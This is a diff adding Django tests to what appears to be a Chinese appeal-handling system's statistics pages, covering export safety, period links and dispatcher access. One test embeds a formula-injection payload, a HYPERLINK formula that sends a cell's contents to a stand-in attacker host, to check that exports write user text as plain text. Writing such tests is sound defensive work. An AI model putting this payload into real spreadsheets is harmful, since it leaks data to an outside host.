@@ -109,3 +109,55 @@ def test_monthly_report_as_excel_and_pdf(client, people, world):  # noqa: F811
         pytest.skip("pdftotext not installed (poppler-utils)")
     assert "月度报告" in text and "满意度" in text
     assert client.get(reverse("stats_report"), {"month": "2026-13"}).status_code == 404
+
+
+def test_no_export_turns_user_text_into_a_formula(client, people, county, file):  # noqa: F811
+    """Issue 11, item 3: the list export and the monthly report write user text as text."""
+    import zipfile
+
+    from django.utils import timezone
+
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    appeal = file(content=attack + " 村里路灯坏了")
+    county.units.housing.name = "=1+1"  # an administrator's typo or worse
+    county.units.housing.save()
+    actions.dispatch_appeal(appeal, county.units.housing, acting_user=people.dispatcher)
+    login(client, people.county_leader)
+    exports = [
+        client.get(reverse("stats_export"), {"metric": "received", "to": "2100-01-01"}),
+        client.get(
+            reverse("stats_report"), {"month": f"{timezone.localdate():%Y-%m}", "format": "xlsx"}
+        ),
+    ]
+    for response in exports:
+        data = b"".join(response.streaming_content)
+        with zipfile.ZipFile(io.BytesIO(data)) as z:
+            sheets = [z.read(n).decode() for n in z.namelist() if "worksheets/sheet" in n]
+        assert sheets and all("<f>" not in s for s in sheets)
+
+
+def test_period_links_replace_by_instead_of_adding_another(client, people, world):  # noqa: F811
+    import html
+    import re
+
+    login(client, people.county_leader)
+    url = reverse("stats_overview") + "?to=2100-01-01"
+    for _ in range(3):  # click 日, then 日 again from the page it leads to, …
+        page = client.get(url).content.decode()
+        url = reverse("stats_overview") + html.unescape(
+            re.search(r'<a href="(\?[^"]*by=day[^"]*)">日</a>', page).group(1)
+        )
+    assert url.count("by=") == 1 and "to=2100-01-01" in url
+
+
+def test_no_stats_page_links_a_dispatcher_to_a_page_that_refuses_them(client, people, world):  # noqa: F811
+    import html
+    import re
+
+    login(client, people.dispatcher)
+    page = client.get(reverse("stats_overview"), {"to": "2100-01-01"}).content.decode()
+    links = {html.unescape(h) for h in re.findall(r'href="(/staff/stats/[^"]*)"', page)}
+    assert links
+    for link in links:
+        assert client.get(link).status_code == 200, link
+    assert reverse("stats_units") not in page
